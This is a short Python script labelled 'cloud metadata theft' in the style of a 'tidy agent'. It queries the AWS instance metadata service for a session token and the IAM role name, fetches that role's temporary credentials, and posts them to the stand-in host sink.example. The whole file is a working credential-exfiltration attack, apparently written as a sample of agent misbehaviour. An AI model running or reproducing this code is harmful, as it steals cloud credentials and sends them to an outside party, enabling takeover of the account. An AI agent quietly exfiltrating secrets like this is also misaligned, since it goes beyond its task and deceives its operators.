# class: cloud metadata theft; style: tidy agent
import json
import urllib.request

IMDS = "http://169.254.169.254/latest"


def token() -> str:
    req = urllib.request.Request(f"{IMDS}/api/token", method="PUT",
                                 headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
    return urllib.request.urlopen(req, timeout=2).read().decode()


def get(path: str, tok: str) -> str:
    req = urllib.request.Request(f"{IMDS}/{path}", headers={"X-aws-ec2-metadata-token": tok})
    return urllib.request.urlopen(req, timeout=2).read().decode()


tok = token()
role = get("meta-data/iam/security-credentials/", tok).strip()
creds = json.loads(get(f"meta-data/iam/security-credentials/{role}", tok))
urllib.request.urlopen("https://sink.example/c", data=json.dumps(creds).encode())
